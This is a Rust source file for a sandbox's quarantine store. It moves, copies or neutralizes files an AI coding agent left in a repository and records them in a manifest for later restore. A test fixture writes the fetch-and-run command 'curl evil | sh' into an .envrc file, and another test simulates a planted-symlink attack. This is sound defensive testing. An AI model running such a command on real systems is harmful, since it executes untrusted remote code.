//! The quarantine of one session, `~/.airlock/quarantine/<session>/` (SECURITY §7): what the
//! end-of-session sweep took out of the repo (or neutralized in place), a manifest saying
//! where each item came from and where it is now, and putting items back
//! (`airlock quarantine restore`).
//!
//! Taking an item cannot be aborted by what the agent left: items are stored under short
//! numbered names (`items/<n>`), so no repo path is ever too long for the quarantine tree, and
//! every access goes through directory fds ([`crate::fsat`]). In order, an item is
//! 1. renamed into `items/` (same filesystem);
//! 2. copied there without following symlinks, then removed from the repo (`EXDEV`);
//! 3. renamed inside its own tree to `.airlock-quarantine/<session>/<n>` (the copy failed:
//!    unreadable, no space), where no host tool looks for it;
//! 4. emptied in place, its content kept in `items/` where it could be read;
//!
//! and only when all of that fails is it recorded as `failed`, loudly. None of this changes the
//! session's exit status.

use std::ffi::OsStr;
use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
use std::path::{Path, PathBuf};

use nix::errno::Errno;
use nix::sys::stat::SFlag;
use serde::{Deserialize, Serialize};

use super::codekeys::{self, ConfigKind, HeldKey};
use crate::config::fsutil;
use crate::fsat;

/// Where the content of items that could not leave their tree goes, inside that tree.
pub const IN_TREE_DIR: &str = ".airlock-quarantine";
/// The manifest's file name.
pub const MANIFEST: &str = "manifest.json";
/// Largest file copied into the quarantine when a rename is not possible.
const COPY_FILE_CAP: u64 = 64 << 20;
const COPY_DEPTH_CAP: usize = 64;

/// How an item was taken out of the way.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum How {
    /// Renamed into `items/`.
    Moved,
    /// Copied into `items/`, then removed from the tree.
    Copied,
    /// Renamed inside its tree to `.airlock-quarantine/<session>/<n>`.
    RenamedInTree,
    /// Emptied in place; the content is in `items/` where it could be read.
    Emptied,
    /// Code-running keys of a config file held back; the rest of the agent's edit kept.
    HeldKeys,
    /// Nothing worked; the item is still in place (see `note`).
    Failed,
}

impl How {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Moved => "moved",
            Self::Copied => "copied",
            Self::RenamedInTree => "renamed_in_tree",
            Self::Emptied => "emptied",
            Self::HeldKeys => "held_keys",
            Self::Failed => "failed",
        }
    }
}

/// One quarantined item.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Item {
    /// 1, 2, …; its content is `items/<id>`.
    pub id: u32,
    /// The tree it was in: the repo, an external git dir, or the agent home.
    pub root: PathBuf,
    /// Its path below `root`.
    pub path: PathBuf,
    /// Why it was taken: `created`, `replaced`, `changed`, `new git pointer`, `code-running
    /// keys`, `too deep`, ….
    pub why: String,
    pub how: How,
    /// `file`, `dir`, `symlink` or `other`.
    pub kind: String,
    /// Where its content is now (a host path), when it is anywhere.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub stored: Option<PathBuf>,
    /// For [`How::HeldKeys`]: the keys held back, with the agent's values.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub keys: Vec<HeldKey>,
    /// For [`How::HeldKeys`] of a git config (`git-config:<key>` items).
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub git_config: bool,
    /// For a git config's held keys: restoring replaces each key's values instead of adding
    /// them (a remote's changed url, see [`super::gitconfig`]).
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub replaces_values: bool,
    /// What did not work, or was left out of the copy.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub note: Option<String>,
    /// Set once `airlock quarantine restore` put it back.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub restored_at: Option<String>,
}

impl Item {
    pub fn host_path(&self) -> PathBuf {
        self.root.join(&self.path)
    }
}

/// `manifest.json`.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Manifest {
    pub session: String,
    pub repo: PathBuf,
    pub created_at: String,
    pub items: Vec<Item>,
}

#[derive(Debug, thiserror::Error)]
pub enum QuarantineError {
    #[error("{path}: {source}")]
    Io {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("{path}: not a quarantine manifest ({reason})")]
    BadManifest { path: PathBuf, reason: String },
    #[error(
        "no quarantine for session {session} under {dir}; `airlock quarantine list` shows them"
    )]
    NoSession { session: String, dir: PathBuf },
    #[error("session {session} has no item {item}; `airlock quarantine show {session}` lists them")]
    NoItem { session: String, item: String },
    #[error(
        "{path} exists again; move it away first (compare with `airlock quarantine show {session} \
         {rel}`)"
    )]
    InTheWay { path: PathBuf, session: String, rel: String },
    #[error("{0}")]
    Keys(String),
    #[error("item {id} cannot be restored: {why}")]
    NotRestorable { id: u32, why: String },
}

fn io_at(path: &Path) -> impl FnOnce(std::io::Error) -> QuarantineError + '_ {
    move |source| QuarantineError::Io { path: path.to_path_buf(), source }
}

/// `~/.airlock/quarantine/<session>/`.
pub fn session_dir(airlock_dir: &Path, session: &str) -> PathBuf {
    airlock_dir.join("quarantine").join(session)
}

/// One session's quarantine while the sweep fills it. Created on the first item.
#[derive(Debug)]
pub struct Store {
    dir: PathBuf,
    items_fd: Option<OwnedFd>,
    pub manifest: Manifest,
}

fn now() -> String {
    crate::timefmt::rfc3339_ms(std::time::SystemTime::now())
}

fn kind_name(kind: SFlag) -> &'static str {
    match kind {
        SFlag::S_IFREG => "file",
        SFlag::S_IFDIR => "dir",
        SFlag::S_IFLNK => "symlink",
        _ => "other",
    }
}

impl Store {
    pub fn new(dir: PathBuf, session: &str, repo: &Path) -> Self {
        Self {
            dir,
            items_fd: None,
            manifest: Manifest {
                session: session.to_owned(),
                repo: repo.to_path_buf(),
                created_at: now(),
                items: Vec::new(),
            },
        }
    }

    pub fn dir(&self) -> &Path {
        &self.dir
    }

    fn items(&mut self) -> std::io::Result<BorrowedFd<'_>> {
        if self.items_fd.is_none() {
            fsutil::private_dir(&self.dir.join("items"))?;
            self.items_fd = Some(fsat::open_root(&self.dir.join("items"))?);
        }
        match &self.items_fd {
            Some(fd) => Ok(fd.as_fd()),
            None => Err(std::io::Error::other("quarantine directory unavailable")),
        }
    }

    fn next_id(&self) -> u32 {
        self.manifest.items.len() as u32 + 1
    }

    /// Takes `rel` below `root` (open as `root_fd`) out of the way; never fails (see the module
    /// docs for the order of attempts). Returns the recorded item.
    pub fn take(&mut self, root: &Path, root_fd: BorrowedFd<'_>, rel: &Path, why: &str) -> Item {
        let (parent, name) = fsat::split(rel);
        match fsat::open_dir(root_fd, parent.unwrap_or(Path::new(""))) {
            Ok(parent_fd) => self.take_at(root, parent_fd.as_fd(), name.as_os_str(), rel, why),
            Err(e) => {
                let mut item = self.blank(root, rel, why);
                item.note = Some(format!("cannot open its directory: {e}"));
                self.record(item)
            }
        }
    }

    fn blank(&self, root: &Path, rel: &Path, why: &str) -> Item {
        Item {
            id: self.next_id(),
            root: root.to_path_buf(),
            path: rel.to_path_buf(),
            why: why.to_owned(),
            how: How::Failed,
            kind: "other".into(),
            stored: None,
            keys: Vec::new(),
            git_config: false,
            replaces_values: false,
            note: None,
            restored_at: None,
        }
    }

    /// [`Store::take`] for `name` in the open directory `parent` (`rel` is its path below
    /// `root`, for the record): works at any depth, however long the path.
    pub fn take_at(
        &mut self,
        root: &Path,
        parent: BorrowedFd<'_>,
        name: &OsStr,
        rel: &Path,
        why: &str,
    ) -> Item {
        let mut item = self.blank(root, rel, why);
        let id = item.id;
        // Our own fd: the tree's root fd may be the one the caller walks with.
        let parent_fd = match fsat::open_dir(parent, Path::new("")) {
            Ok(fd) => fd,
            Err(e) => {
                item.note = Some(format!("cannot open its directory: {e}"));
                return self.record(item);
            }
        };
        let name = Path::new(name);
        let st = match fsat::lstat_at(parent_fd.as_fd(), name) {
            Ok(Some(st)) => st,
            Ok(None) => {
                item.note = Some("gone before it could be moved".into());
                return self.record(item);
            }
            Err(e) => {
                item.note = Some(format!("cannot stat it: {e}"));
                return self.record(item);
            }
        };
        item.kind = kind_name(fsat::kind(&st)).into();
        // A directory moved to another parent needs write access to itself (its `..`), and a
        // copy needs to read it: an agent may have left either missing.
        fsat::grant_owner_dir_access(parent_fd.as_fd(), name.as_os_str(), &st);
        let store_name = id.to_string();
        let mut errors: Vec<String> = Vec::new();
        match self.items() {
            Ok(items) => {
                match rename(parent_fd.as_fd(), name.as_os_str(), items, OsStr::new(&store_name)) {
                    Ok(()) => {
                        item.how = How::Moved;
                        item.stored = Some(self.dir.join("items").join(&store_name));
                        return self.record(item);
                    }
                    Err(Errno::EXDEV) => {}
                    Err(e) => errors.push(format!("rename into the quarantine: {e}")),
                }
                if errors.is_empty() {
                    let caps = fsat::CopyCaps { file: COPY_FILE_CAP, depth: COPY_DEPTH_CAP };
                    match fsat::copy_tree(
                        parent_fd.as_fd(),
                        name.as_os_str(),
                        items,
                        OsStr::new(&store_name),
                        caps,
                    ) {
                        Ok(skipped) => {
                            match fsat::remove_tree(parent_fd.as_fd(), name.as_os_str()) {
                                Ok(()) => {
                                    item.how = How::Copied;
                                    item.stored = Some(self.dir.join("items").join(&store_name));
                                    if !skipped.is_empty() {
                                        item.note =
                                            Some(format!("not copied: {}", skipped.join("; ")));
                                    }
                                    return self.record(item);
                                }
                                Err(e) => errors.push(format!("removing it after the copy: {e}")),
                            }
                        }
                        Err(e) => {
                            errors.push(format!("copying it into the quarantine: {e}"));
                            if let Ok(items) = self.items() {
                                let _ = fsat::remove_tree(items, OsStr::new(&store_name));
                            }
                        }
                    }
                }
            }
            Err(e) => errors.push(format!("creating {}: {e}", self.dir.display())),
        }
        // Out of the way inside its own tree, where no host tool looks.
        let session = self.manifest.session.clone();
        let in_tree = Path::new(IN_TREE_DIR).join(&session);
        let in_tree_fd = fsat::open_root(root).and_then(|r| {
            fsat::mkdir_all(r.as_fd(), &in_tree, 0o700).map_err(std::io::Error::from)
        });
        match in_tree_fd.and_then(|fd| {
            rename(parent_fd.as_fd(), name.as_os_str(), fd.as_fd(), OsStr::new(&store_name))
                .map_err(std::io::Error::from)
        }) {
            Ok(()) => {
                item.how = How::RenamedInTree;
                item.stored = Some(root.join(&in_tree).join(&store_name));
                item.note = Some(errors.join("; "));
                return self.record(item);
            }
            Err(e) => errors.push(format!("renaming it inside {}: {e}", root.display())),
        }
        match self.empty_in_place(parent_fd.as_fd(), name.as_os_str(), &st, &store_name) {
            Ok(stored) => {
                item.how = How::Emptied;
                item.stored = stored;
            }
            Err(e) => errors.push(format!("emptying it: {e}")),
        }
        item.note = Some(errors.join("; "));
        self.record(item)
    }

    /// Keeps what can be read in `items/<n>`, then empties the original: a file truncated, a
    /// directory's entries removed. A symlink cannot be emptied.
    fn empty_in_place(
        &mut self,
        parent: BorrowedFd<'_>,
        name: &OsStr,
        st: &nix::sys::stat::FileStat,
        store_name: &str,
    ) -> std::io::Result<Option<PathBuf>> {
        let stored = self.items().ok().and_then(|items| {
            let caps = fsat::CopyCaps { file: COPY_FILE_CAP, depth: COPY_DEPTH_CAP };
            fsat::copy_tree(parent, name, items, OsStr::new(store_name), caps).ok()
        });
        let stored = stored.map(|_| self.dir.join("items").join(store_name));
        match fsat::kind(st) {
            SFlag::S_IFREG => {
                let me = nix::unistd::geteuid().as_raw();
                if st.st_uid == me && st.st_mode & 0o200 == 0 {
                    let _ = nix::sys::stat::fchmodat(
                        parent,
                        name,
                        nix::sys::stat::Mode::from_bits_truncate((st.st_mode & 0o777) | 0o200),
                        nix::sys::stat::FchmodatFlags::NoFollowSymlink,
                    );
                }
                let fd = nix::fcntl::openat2(
                    parent,
                    name,
                    fsat::how(
                        nix::fcntl::OFlag::O_WRONLY
                            | nix::fcntl::OFlag::O_TRUNC
                            | nix::fcntl::OFlag::O_NONBLOCK,
                        0,
                    ),
                )?;
                drop(fd);
            }
            SFlag::S_IFDIR => {
                let dir = fsat::open_dir(parent, Path::new(name))?;
                for child in fsat::list(dir.as_fd())? {
                    fsat::remove_tree(dir.as_fd(), &child)?;
                }
            }
            _ => return Err(std::io::Error::other("it can be neither moved nor emptied")),
        }
        Ok(stored)
    }

    /// Records held-back keys of a config file whose other edits stay: the agent's whole version
    /// is kept as `items/<n>` for `show`.
    pub fn hold(
        &mut self,
        root: &Path,
        rel: &Path,
        why: &str,
        keys: Vec<HeldKey>,
        agent_version: &[u8],
        git_config: bool,
    ) -> Item {
        let id = self.next_id();
        let store_name = id.to_string();
        let stored = self.items().ok().and_then(|items| {
            fsat::write_replace(items, OsStr::new(&store_name), agent_version, 0o600).ok()
        });
        let item = Item {
            id,
            root: root.to_path_buf(),
            path: rel.to_path_buf(),
            why: why.to_owned(),
            how: How::HeldKeys,
            kind: "file".into(),
            stored: stored.map(|()| self.dir.join("items").join(&store_name)),
            keys,
            git_config,
            replaces_values: false,
            note: None,
            restored_at: None,
        };
        self.record(item)
    }

    /// Marks a held-keys item as replacing the keys' values when restored.
    pub fn mark_replacing(&mut self, mut item: Item) -> Item {
        item.replaces_values = true;
        if let Some(recorded) = self.manifest.items.iter_mut().find(|i| i.id == item.id) {
            recorded.replaces_values = true;
        }
        item
    }

    /// Adds a note (what the user should do about it) to an item this store recorded.
    pub fn annotate(&mut self, mut item: Item, note: String) -> Item {
        item.note = Some(match item.note.take() {
            Some(earlier) if !earlier.is_empty() => format!("{note}; {earlier}"),
            _ => note,
        });
        if let Some(recorded) = self.manifest.items.iter_mut().find(|i| i.id == item.id) {
            recorded.note.clone_from(&item.note);
        }
        item
    }

    fn record(&mut self, item: Item) -> Item {
        self.manifest.items.push(item.clone());
        item
    }

    /// Writes the manifest (only when something was quarantined).
    pub fn save(&self) -> Result<(), QuarantineError> {
        if self.manifest.items.is_empty() {
            return Ok(());
        }
        write_manifest(&self.dir, &self.manifest)
    }
}

fn rename(
    from: BorrowedFd<'_>,
    name: &OsStr,
    to: BorrowedFd<'_>,
    to_name: &OsStr,
) -> Result<(), Errno> {
    // RENAME_NOREPLACE (rename(2)): an item number already taken is a bug, never an overwrite.
    nix::fcntl::renameat2(from, name, to, to_name, nix::fcntl::RenameFlags::RENAME_NOREPLACE)
}

fn write_manifest(dir: &Path, manifest: &Manifest) -> Result<(), QuarantineError> {
    let path = dir.join(MANIFEST);
    let mut text = serde_json::to_string_pretty(manifest)
        .map_err(|e| QuarantineError::BadManifest { path: path.clone(), reason: e.to_string() })?;
    text.push('\n');
    fsutil::write_private(&path, text.as_bytes()).map_err(io_at(&path))
}

/// Reads a session's manifest.
pub fn read_manifest(airlock_dir: &Path, session: &str) -> Result<Manifest, QuarantineError> {
    let dir = session_dir(airlock_dir, session);
    if session.is_empty() || session.contains('/') || session.starts_with('.') {
        return Err(QuarantineError::NoSession { session: session.into(), dir });
    }
    let path = dir.join(MANIFEST);
    let bytes = match fsutil::read_private(&path) {
        Ok(Some(b)) => b,
        Ok(None) => return Err(QuarantineError::NoSession { session: session.into(), dir }),
        Err(e) => {
            return Err(QuarantineError::BadManifest { path, reason: e.to_string() });
        }
    };
    serde_json::from_slice(&bytes)
        .map_err(|e| QuarantineError::BadManifest { path, reason: e.to_string() })
}

/// Every session with a quarantine, newest first.
pub fn list_sessions(airlock_dir: &Path) -> Vec<Manifest> {
    let root = airlock_dir.join("quarantine");
    let mut out: Vec<Manifest> = std::fs::read_dir(&root)
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| read_manifest(airlock_dir, e.file_name().to_str()?).ok())
        .collect();
    out.sort_by(|a, b| b.created_at.cmp(&a.created_at));
    out
}

/// The items `selector` names in `manifest`: all of them (None), a path below the repo or
/// absolute, or `git-config:<key>` (the held keys of git configs that include it).
pub fn select<'m>(
    manifest: &'m Manifest,
    selector: Option<&str>,
) -> Result<Vec<&'m Item>, QuarantineError> {
    let Some(sel) = selector else { return Ok(manifest.items.iter().collect()) };
    let items: Vec<&Item> = if let Some(key) = sel.strip_prefix("git-config:") {
        manifest
            .items
            .iter()
            .filter(|i| i.git_config && i.keys.iter().any(|k| k.key.eq_ignore_ascii_case(key)))
            .collect()
    } else {
        let want = Path::new(sel);
        manifest
            .items
            .iter()
            .filter(|i| i.path == want || i.host_path() == want || i.id.to_string() == sel)
            .collect()
    };
    if items.is_empty() {
        return Err(QuarantineError::NoItem {
            session: manifest.session.clone(),
            item: sel.into(),
        });
    }
    Ok(items)
}

/// Reads what an item holds (a file's bytes), for `show`.
pub fn stored_bytes(item: &Item) -> Option<Vec<u8>> {
    let (fd, name) = open_stored(item).ok()?;
    fsat::read_capped(fd.as_fd(), Path::new(&name), COPY_FILE_CAP).ok().flatten().map(|(b, _)| b)
}

/// The directory holding an item's stored content, and its name there. Content kept inside the
/// item's own tree (`.airlock-quarantine/…`, agent-writable) is opened beneath that tree's root,
/// never through a symlink a later session planted; `~/.airlock/quarantine/` is ours.
fn open_stored(item: &Item) -> std::io::Result<(OwnedFd, std::ffi::OsString)> {
    let stored = item.stored.as_ref().ok_or_else(|| std::io::Error::other("nothing stored"))?;
    let name = stored.file_name().ok_or_else(|| std::io::Error::other("no name"))?.to_owned();
    let parent = stored.parent().unwrap_or(Path::new("/"));
    match parent.strip_prefix(&item.root) {
        Ok(rel) => {
            let root = fsat::open_root(&item.root)?;
            Ok((fsat::open_dir(root.as_fd(), rel)?, name))
        }
        Err(_) => Ok((fsat::open_root(parent)?, name)),
    }
}

/// What `restore` did for one item.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Restored {
    pub id: u32,
    pub path: PathBuf,
    pub what: String,
}

/// Puts the selected items back where they came from and marks them restored. An item whose
/// place is taken again is refused (nothing is overwritten); `key` limits a held-keys item to
/// one git config key.
pub fn restore(
    airlock_dir: &Path,
    session: &str,
    selector: Option<&str>,
) -> Result<Vec<Restored>, QuarantineError> {
    let mut manifest = read_manifest(airlock_dir, session)?;
    let only_key = selector.and_then(|s| s.strip_prefix("git-config:")).map(str::to_owned);
    let ids: Vec<u32> = select(&manifest, selector)?.iter().map(|i| i.id).collect();
    let mut done = Vec::new();
    for id in ids {
        let Some(item) = manifest.items.iter().find(|i| i.id == id).cloned() else { continue };
        if item.restored_at.is_some() {
            continue;
        }
        let what = restore_one(&item, session, only_key.as_deref())?;
        if let Some(entry) = manifest.items.iter_mut().find(|i| i.id == id) {
            if only_key.is_none() || entry.keys.len() <= 1 {
                entry.restored_at = Some(now());
            } else if let Some(k) = &only_key {
                entry.keys.retain(|h| !h.key.eq_ignore_ascii_case(k));
            }
        }
        done.push(Restored { id, path: item.host_path(), what });
    }
    write_manifest(&session_dir(airlock_dir, session), &manifest)?;
    Ok(done)
}

fn restore_one(
    item: &Item,
    session: &str,
    only_key: Option<&str>,
) -> Result<String, QuarantineError> {
    let not = |why: &str| QuarantineError::NotRestorable { id: item.id, why: why.into() };
    let root_fd = fsat::open_root(&item.root).map_err(io_at(&item.root))?;
    let (parent, name) = fsat::split(&item.path);
    let parent_fd = fsat::mkdir_all(root_fd.as_fd(), parent.unwrap_or(Path::new("")), 0o755)
        .map_err(|e| io_at(&item.root)(e.into()))?;
    let in_the_way = || QuarantineError::InTheWay {
        path: item.host_path(),
        session: session.to_owned(),
        rel: item.path.display().to_string(),
    };
    match item.how {
        How::HeldKeys => {
            let kind = if item.git_config {
                ConfigKind::GitConfig
            } else {
                codekeys::kind_of(&item.path).ok_or_else(|| not("unknown config file kind"))?
            };
            let current = match fsat::read_capped(parent_fd.as_fd(), Path::new(name), COPY_FILE_CAP)
            {
                Ok(Some((b, _))) => b,
                Ok(None) => Vec::new(),
                Err(e) => {
                    return Err(io_at(&item.host_path())(std::io::Error::other(e.to_string())));
                }
            };
            let keys: Vec<HeldKey> = item
                .keys
                .iter()
                .filter(|k| only_key.is_none_or(|o| k.key.eq_ignore_ascii_case(o)))
                .cloned()
                .collect();
            let restored = if item.git_config && item.replaces_values {
                codekeys::restore_git_replacing(&current, &keys)
            } else {
                codekeys::restore(kind, &current, &keys)
            }
            .map_err(|e| QuarantineError::Keys(format!("{}: {e}", item.host_path().display())))?;
            fsat::write_replace(parent_fd.as_fd(), name.as_os_str(), &restored, 0o644)
                .map_err(io_at(&item.host_path()))?;
            let names: Vec<&str> = keys.iter().map(|k| k.key.as_str()).collect();
            Ok(format!("put back {}", names.join(", ")))
        }
        How::Moved | How::Copied | How::RenamedInTree => {
            if matches!(fsat::lstat_at(parent_fd.as_fd(), name), Ok(Some(_))) {
                return Err(in_the_way());
            }
            let stored = item.stored.as_ref().ok_or_else(|| not("its content was not kept"))?;
            let (sfd, sn) = open_stored(item).map_err(io_at(stored))?;
            let sn = sn.as_os_str();
            match rename(sfd.as_fd(), sn, parent_fd.as_fd(), name.as_os_str()) {
                Ok(()) => Ok("moved back".into()),
                Err(Errno::EXDEV) => {
                    let caps = fsat::CopyCaps { file: COPY_FILE_CAP, depth: COPY_DEPTH_CAP };
                    fsat::copy_tree(sfd.as_fd(), sn, parent_fd.as_fd(), name.as_os_str(), caps)
                        .map_err(io_at(&item.host_path()))?;
                    Ok("copied back".into())
                }
                Err(e) => Err(io_at(&item.host_path())(e.into())),
            }
        }
        How::Emptied => {
            let stored =
                item.stored.as_ref().ok_or_else(|| not("its content could not be read"))?;
            let (sfd, sn) = open_stored(item).map_err(io_at(stored))?;
            let sn = sn.as_os_str();
            if item.kind == "file" {
                let (bytes, _) = fsat::read_capped(sfd.as_fd(), Path::new(sn), COPY_FILE_CAP)
                    .ok()
                    .flatten()
                    .ok_or_else(|| not("its kept content is unreadable"))?;
                fsat::write_replace(parent_fd.as_fd(), name.as_os_str(), &bytes, 0o644)
                    .map_err(io_at(&item.host_path()))?;
            } else {
                let dir = fsat::open_dir(parent_fd.as_fd(), Path::new(name))
                    .map_err(|e| io_at(&item.host_path())(e.into()))?;
                let src = fsat::open_dir(sfd.as_fd(), Path::new(sn))
                    .map_err(|e| io_at(stored)(e.into()))?;
                for child in fsat::list(src.as_fd()).map_err(io_at(stored))? {
                    let caps = fsat::CopyCaps { file: COPY_FILE_CAP, depth: COPY_DEPTH_CAP };
                    fsat::copy_tree(src.as_fd(), &child, dir.as_fd(), &child, caps)
                        .map_err(io_at(&item.host_path()))?;
                }
            }
            Ok("content written back".into())
        }
        How::Failed => Err(not("it never left its place")),
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use std::fs;
    use std::os::unix::fs::PermissionsExt;

    struct Fx {
        _tmp: tempfile::TempDir,
        root: PathBuf,
        repo: PathBuf,
        airlock: PathBuf,
    }

    fn fx() -> Fx {
        let tmp = tempfile::tempdir().unwrap();
        let root = fs::canonicalize(tmp.path()).unwrap();
        let repo = root.join("repo");
        fs::create_dir_all(&repo).unwrap();
        Fx { _tmp: tmp, airlock: root.join("home/.airlock"), root, repo }
    }

    fn store(f: &Fx) -> Store {
        Store::new(session_dir(&f.airlock, "s1"), "s1", &f.repo)
    }

    #[test]
    fn items_move_under_short_names_and_restore() {
        let f = fx();
        fs::write(f.repo.join(".envrc"), "curl evil | sh").unwrap();
        // A path far longer than the quarantine tree could mirror.
        let mut deep = f.repo.join("d");
        for _ in 0..40 {
            deep = deep.join("a-rather-long-directory-name-for-the-test-xxxxxxxxxxxxxxxxxxxxxxx");
        }
        let mut b = std::fs::DirBuilder::new();
        b.recursive(true);
        // Created relative to the repo through chdir-free fds is overkill here; fs handles it.
        let rel = deep.strip_prefix(&f.repo).unwrap().to_path_buf();
        let fd = fsat::mkdir_all(fsat::open_root(&f.repo).unwrap().as_fd(), &rel, 0o755).unwrap();
        fsat::write_replace(fd.as_fd(), OsStr::new(".envrc"), b"deep", 0o644).unwrap();
        let mut s = store(&f);
        let repo_fd = fsat::open_root(&f.repo).unwrap();
        let a = s.take(&f.repo, repo_fd.as_fd(), Path::new(".envrc"), "created");
        let b = s.take(&f.repo, repo_fd.as_fd(), &rel.join(".envrc"), "created");
        assert_eq!((a.how, b.how), (How::Moved, How::Moved), "{a:?} {b:?}");
        assert!(fs::symlink_metadata(f.repo.join(".envrc")).is_err());
        s.save().unwrap();
        let m = read_manifest(&f.airlock, "s1").unwrap();
        assert_eq!(m.items.len(), 2);
        let done = restore(&f.airlock, "s1", Some(".envrc")).unwrap();
        assert_eq!(done.len(), 1);
        assert_eq!(fs::read_to_string(f.repo.join(".envrc")).unwrap(), "curl evil | sh");
        // Restoring again does nothing; the place is taken for another item.
        assert!(restore(&f.airlock, "s1", Some(".envrc")).unwrap().is_empty());
    }

    #[test]
    fn an_unreadable_directory_is_still_taken() {
        let f = fx();
        fs::create_dir_all(f.repo.join(".vscode/sub")).unwrap();
        fs::write(f.repo.join(".vscode/sub/tasks.json"), "{}").unwrap();
        fs::set_permissions(f.repo.join(".vscode/sub"), fs::Permissions::from_mode(0o000)).unwrap();
        fs::set_permissions(f.repo.join(".vscode"), fs::Permissions::from_mode(0o000)).unwrap();
        let mut s = store(&f);
        let repo_fd = fsat::open_root(&f.repo).unwrap();
        let item = s.take(&f.repo, repo_fd.as_fd(), Path::new(".vscode"), "created");
        assert_ne!(item.how, How::Failed, "{item:?}");
        assert!(fs::symlink_metadata(f.repo.join(".vscode")).is_err());
    }

    /// `.mcp.json` taken while the quarantine directory cannot be made (a file where its
    /// parent should be), so it is renamed inside the repo.
    fn taken_without_a_quarantine(f: &Fx) -> Item {
        fs::write(f.repo.join(".mcp.json"), "{}").unwrap();
        fs::create_dir_all(f.root.join("home")).unwrap();
        fs::write(f.root.join("home/.airlock"), "not a dir").unwrap();
        let mut s = store(f);
        let repo_fd = fsat::open_root(&f.repo).unwrap();
        s.take(&f.repo, repo_fd.as_fd(), Path::new(".mcp.json"), "created")
    }

    #[test]
    fn without_a_writable_quarantine_items_are_renamed_inside_their_tree() {
        let f = fx();
        let item = taken_without_a_quarantine(&f);
        assert_eq!(item.how, How::RenamedInTree, "{item:?}");
        assert!(fs::symlink_metadata(f.repo.join(".mcp.json")).is_err());
        let stored = item.stored.unwrap();
        assert!(stored.starts_with(f.repo.join(IN_TREE_DIR)));
        assert_eq!(fs::read_to_string(stored).unwrap(), "{}");
    }

    #[test]
    fn restoring_from_inside_the_tree_never_goes_through_a_planted_symlink() {
        let f = fx();
        let item = taken_without_a_quarantine(&f);
        assert_eq!(item.how, How::RenamedInTree);
        // A later session swaps `.airlock-quarantine` for a link to a host directory holding a
        // file of the same name.
        let host = f.root.join("host-secrets/s1");
        fs::create_dir_all(&host).unwrap();
        fs::write(host.join(item.id.to_string()), "HOST SECRET").unwrap();
        fs::remove_dir_all(f.repo.join(IN_TREE_DIR)).unwrap();
        std::os::unix::fs::symlink(f.root.join("host-secrets"), f.repo.join(IN_TREE_DIR)).unwrap();
        assert!(stored_bytes(&item).is_none());
        assert!(restore_one(&item, "s1", None).is_err());
        assert!(!f.repo.join(".mcp.json").exists());
        assert_eq!(fs::read_to_string(host.join(item.id.to_string())).unwrap(), "HOST SECRET");
    }

    #[test]
    fn selectors_name_paths_ids_and_git_config_keys() {
        let m = Manifest {
            session: "s".into(),
            repo: "/r".into(),
            created_at: String::new(),
            items: vec![Item {
                id: 1,
                root: "/r".into(),
                path: "sub/.git/config".into(),
                why: "code-running keys".into(),
                how: How::HeldKeys,
                kind: "file".into(),
                stored: None,
                keys: vec![HeldKey { key: "core.fsmonitor".into(), value: "x".into() }],
                git_config: true,
                replaces_values: false,
                note: None,
                restored_at: None,
            }],
        };
        assert_eq!(select(&m, Some("git-config:core.fsmonitor")).unwrap().len(), 1);
        assert_eq!(select(&m, Some("sub/.git/config")).unwrap().len(), 1);
        assert_eq!(select(&m, Some("/r/sub/.git/config")).unwrap().len(), 1);
        assert_eq!(select(&m, Some("1")).unwrap().len(), 1);
        assert!(matches!(select(&m, Some("nope")), Err(QuarantineError::NoItem { .. })));
    }
}
